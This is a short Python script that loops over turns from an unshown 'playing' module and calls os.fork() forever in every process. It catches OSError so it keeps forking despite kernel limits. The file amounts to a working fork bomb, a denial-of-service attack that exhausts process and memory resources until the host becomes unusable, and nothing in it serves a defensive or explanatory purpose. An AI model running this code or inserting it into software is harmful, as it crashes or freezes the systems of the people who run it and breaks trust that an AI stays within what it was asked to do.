"""Forks for ever, in every child too, whatever the kernel says."""

import os

from playing import turns

for _ in turns():
    while True:
        try:
            os.fork()
        except OSError:
            continue
